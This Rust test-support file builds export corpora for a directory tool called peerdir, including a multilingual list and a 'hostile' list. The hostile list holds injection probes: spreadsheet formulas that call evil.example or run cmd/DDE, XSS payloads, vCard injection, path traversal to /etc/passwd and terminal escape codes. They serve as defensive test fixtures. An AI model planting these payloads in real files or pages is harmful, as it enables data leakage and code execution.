//! What is exported in all tests: the built-in list, one in many scripts with every fact that there is, and one whose
//! every text is an attack on some reader.

use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;
use tempfile::TempDir;

use crate::quoted::quoted;

/// The program under test.
const PROGRAM: &str = env!("CARGO_BIN_EXE_peerdir");

/// Texts that try to be more than text.
const HOSTILE: &[&str] = &[
    // Formulas.
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=WEBSERVICE(\"http://evil.example/\")",
    "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "\"=1+1\"",
    "x\",=1+1,\"y",
    "x\n=1+1",
    "%0A=1+1",
    "=\u{a0}1+1",
    "\u{a0}=1+1",
    "\u{200b}=1+1",
    "sep=;",
    "ID;PWXL",
    // Markdown.
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "![x](http://evil.example/x.png)",
    "<javascript:alert(1)>",
    "<http://evil.example>",
    "[x]: javascript:alert(1)",
    "| a | b |\n|---|---|\n| c | d |",
    "a | b \\| c",
    "\\",
    "\\\\|",
    "`code` **bold** _it_ ~~gone~~ # h\n- item\n1. one\n> quote\n---",
    "```\n<script>alert(1)</script>\n```",
    "[^1]: note",
    // HTML.
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "</td></tr></table><iframe src=//evil.example>",
    "<!-- x --> &lt;b&gt; &#60;script&#62; &amp;#60;",
    "<svg/onload=alert(1)>",
    // Cards.
    "x\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Evil\r\nEND:VCARD",
    "END:VCARD",
    "BEGIN:VCARD",
    "x\nNOTE:injected",
    "a;b,c:d\\,e\\;f\\n g\\\\",
    ";;;;;;",
    ",,,",
    "peerdir: verified 2026-01-01",
    "=0D=0A=20=3D",
    "ENCODING=QUOTED-PRINTABLE:x=\r\ny",
    // Lists.
    "\"\"\"\n[[organization]]\nid = \"evil\"",
    "\\u0041 \\U0001F600 \\x1b",
    "'''",
    "# no comment",
    // Terminals and directions.
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;t\u{7}",
    "\u{9b}31m\u{85}",
    "a\u{0}b\u{7f}c",
    "abc\u{202e}fed\u{202c} \u{2066}x\u{2069}",
    "line\u{2028}paragraph\u{2029}\u{feff}mark",
    "\u{e0041}\u{e007f}",
    "a\u{200b}b\u{ad}c\u{2060}d\u{3164}e\u{180e}f\u{200d}g",
    "no\u{fffe}character\u{ffff}\u{fdd0}\u{10fffe}",
    // Addresses that are none of the group's.
    "www.evil.example",
    "WWW.evil.example (www.evil.example) http://evil.example/x HTTPS://evil.example ftp://evil.example",
    "e\u{301}\u{301}\u{301}",
    // Folded again and again.
    "éééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééé",
    "東京東京東京東京東京東京東京東京東京東京東京東京東京東京東京東京東京東京東京東京東京東京東京東京東京東京東京",
    "😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀",
    "word word word word word word word word word word word word word word word word word word ",
    "../../etc/passwd",
    "null",
    "TRUE",
    "1e5",
    "00123",
    "2026-01-02",
];

/// Names, cities and sentences in their own scripts, with the tag of the language and the country.
const SCRIPTS: &[(&str, &str, &str, &str, &str)] = &[
    (
        "fr",
        "FR",
        "Méta d’Âme — œuvre",
        "Saint-Étienne",
        "Ils s’y retrouvent, l’été.",
    ),
    (
        "el",
        "GR",
        "Θετική Φωνή",
        "Θεσσαλονίκη",
        "Μια ένωση χρηστών.",
    ),
    (
        "ru",
        "RU",
        "Объединение «Волна»",
        "Екатеринбург",
        "Мы говорим сами за себя.",
    ),
    ("uk", "UA", "Спільнота «Їжак»", "Київ", "Є ґрунт для дії."),
    (
        "ar",
        "EG",
        "منتدى الدلتا",
        "طنطا",
        "نلتقي كل يوم اثنين، ونتحدث بأنفسنا.",
    ),
    ("he", "IL", "קבוצת הנמל", "חיפה", "אנחנו מדברים בשם עצמנו."),
    ("fa", "IR", "گروه می\u{200c}خواهم", "تهران", "ما هستیم."),
    ("hi", "IN", "साथी मंच", "इम्फाल", "हम अपनी बात ख़ुद रखते हैं।"),
    ("th", "TH", "เพื่อนริมน้ำ", "กรุงเทพ", "พบกันทุกวันจันทร์"),
    ("ja", "JP", "提灯ネットワーク", "東京", "月曜日に会います。"),
    ("zh-Hant", "TW", "燈籠網絡", "臺北", "我們為自己發聲。"),
    ("ko", "KR", "등불 모임", "서울", "월요일에 만납니다."),
    ("ka", "GE", "თემის ხმა", "თბილისი", "ჩვენ ვლაპარაკობთ."),
    ("hy", "AM", "Համայնքի ձայն", "Երևան", "Մենք խոսում ենք։"),
    ("am", "ET", "የሰላም ድምፅ", "አዲስ አበባ", "እኛ እንናገራለን።"),
    ("ta", "LK", "தோழமை மன்றம்", "கொழும்பு", "நாங்கள் பேசுகிறோம்."),
    ("my", "MM", "မီးအိမ်ကွန်ရက်", "ရန်ကုန်", "တနင်္လာနေ့တိုင်း တွေ့ပါသည်။"),
    (
        "vi",
        "VN",
        "Nhóm Đồng Đẳng Ánh Sáng",
        "Đà Nẵng",
        "Chúng tôi tự nói.",
    ),
];

/// A list to export.
pub struct Corpus {
    pub name: &'static str,
    /// None for the built-in list.
    file: Option<PathBuf>,
    folder: TempDir,
}

impl Corpus {
    pub fn builtin() -> Self {
        Self::new("built-in", None)
    }

    pub fn scripts() -> Self {
        Self::new("many scripts", Some(in_scripts()))
    }

    pub fn hostile() -> Self {
        Self::new("hostile", Some(hostile()))
    }

    /// All three.
    pub fn all() -> [Self; 3] {
        [Self::builtin(), Self::scripts(), Self::hostile()]
    }

    /// A list of a text.
    pub fn of(name: &'static str, list: String) -> Self {
        Self::new(name, Some(list))
    }

    fn new(name: &'static str, list: Option<String>) -> Self {
        let folder = TempDir::new().expect("a folder can be made");
        let file = list.map(|list| {
            let path = folder.path().join("list.toml");
            fs::write(&path, list).expect("a file can be written");
            path
        });
        Self { name, file, folder }
    }

    /// A path in a folder of its own.
    pub fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// Writes a file into that folder.
    pub fn write(&self, name: &str, text: &str) -> PathBuf {
        let path = self.path(name);
        fs::write(&path, text).expect("a file can be written");
        path
    }

    /// What the program prints for the words of a line, and what it says of it.
    pub fn both(&self, line: &str) -> (String, String) {
        let mut command = program(self.folder.path());
        command.args(line.split_whitespace());
        if let Some(file) = &self.file {
            command.arg("--file").arg(file);
        }
        let output = command.output().expect("the program runs");
        let text = |bytes| String::from_utf8(bytes).expect("the program writes UTF-8");
        let err = text(output.stderr);
        assert!(output.status.success(), "{}: {line}: {err}", self.name);
        (text(output.stdout), err)
    }

    /// What the program prints for the words of a line.
    pub fn prints(&self, line: &str) -> String {
        self.both(line).0
    }

    /// What is true of the groups: our JSON, which another test holds against the list as a reader of TOML sees it.
    pub fn groups(&self) -> Vec<Value> {
        let groups = self.prints("export json --quiet --sort id");
        let groups: Vec<Value> = serde_json::from_str(&groups).expect("JSON");
        assert!(groups.len() > 15, "{} has groups", self.name);
        groups
    }
}

/// The program, with nothing in its environment and a home of its own.
pub fn program(home: &Path) -> Command {
    let mut command = Command::new(PROGRAM);
    command.env_clear().env("HOME", home);
    command
}

/// A text of a JSON object; none if it is null.
pub fn text<'v>(group: &'v Value, key: &str) -> Option<&'v str> {
    group[key].as_str()
}

/// Every text with every field that takes any.
fn hostile() -> String {
    let mut list = "schema_version = 1\n".to_owned();
    for (at, text) in HOSTILE.iter().enumerate() {
        let text = quoted(text);
        write!(
            list,
            "[[organization]]\nid = \"id-{at:03}\"\nname = {text}\nkind = \"peer-run\"\nscope = \"national\"\n\
             country = \"CA\"\nacronym = {text}\nform = {text}\ncity = {text}\nservices = [{text}, \"advocacy\"]\n\
             alternate_names = [{text}, {{ name = {text}, language = \"fr\" }}, {{ name = {text}, former = true }}]\n\
             description = {text}\ndescriptions.fr = {text}\n\
             websites = [{{ url = \"https://a.example/{at}?a=1,2;b=%7C|#x\", label = {text} }},\
             {{ url = \"https://gone.example/{at}\", label = {text}, state = \"moved\" }}]\n\
             phones = [{{ number = \"+12505550100\", label = {text} }}]\nemails = [\"a+b@c.example\"]\n\
             location = {{ lat = 49.123456, lon = -123.123456, precision = \"street\" }}\n\
             sources = [{{ title = {text}, url = \"https://s.example/{at}\" }}]\nnotes = \"SECRET-NOTE\"\n"
        )
        .expect("a text takes text");
    }
    list
}

/// Groups in many scripts, which together have every fact that there is.
fn in_scripts() -> String {
    let mut list = "schema_version = 1\ntitle = \"Groups\"\n".to_owned();
    let precisions = ["city", "street", "exact"];
    let states = ["active", "unknown", "unreachable", "defunct"];
    for (at, (tag, country, name, city, sentence)) in SCRIPTS.iter().enumerate() {
        let (precision, state) = (precisions[at % 3], states[at % 4]);
        let long = format!("{sentence} ").repeat(8);
        let parent = if at > 0 {
            "parent = \"group-00\"\n"
        } else {
            ""
        };
        let successor = match state {
            "defunct" => "successor = \"group-01\"\n",
            _ => "",
        };
        let verified = match state {
            "active" => "verified = 2025-12-01\nverified_by = \"SECRET-CALLER\"\n",
            _ => "attempts = [2026-01-01]\n",
        };
        let degrees = u8::try_from(at).map_or(0.0, f64::from);
        let point = if at % 2 == 0 {
            format!(
                "location = {{ lat = {}, lon = {}, precision = \"{precision}\" }}\n",
                10.123_456 + degrees,
                -20.654_321 - degrees
            )
        } else {
            String::new()
        };
        write!(
            list,
            "[[organization]]\nid = \"group-{at:02}\"\nname = \"{name}\"\nacronym = \"{tag}\"\n\
             alternate_names = [\"Group of {city}\", {{ name = \"{name} 2\", language = \"{tag}\" }}, {{ name = \"{city} {name}\", former = true }}]\n\
             kind = \"allied\"\nform = \"union\"\nscope = \"local\"\ncountry = \"{country}\"\ncity = \"{city}\"\n\
             languages = [\"{tag}\", \"en\"]\nservices = [\"naloxone\", \"peer-support\", \"{city}\"]\n\
             websites = [{{ url = \"https://пример.example/{at}\", state = \"active\" }}, {{ url = \"https://old.example/{at}\", state = \"unreachable\" }}]\n\
             emails = [\"a{at}@a.example\", \"b{at}@b.example\"]\n\
             phones = [{{ number = \"+4930555{at:04}\", label = \"{city}\" }}, {{ number = \"+4930666{at:04}\", label = \"fax\" }}, \"+4930777{at:04}\"]\n\
             description = \"{long}\"\ndescriptions.{tag} = \"{sentence}\"\nfounded = {}\nstatus = \"{state}\"\n\
             sources = [{{ title = \"{name}\", url = \"https://s.example/{at}\", date = \"2020-05\" }}]\n\
             withhold = [\"flyer\"]\nnotes = \"SECRET-NOTE\"\n{parent}{successor}{verified}{point}",
            1980 + at
        )
        .expect("a text takes text");
    }
    list
}
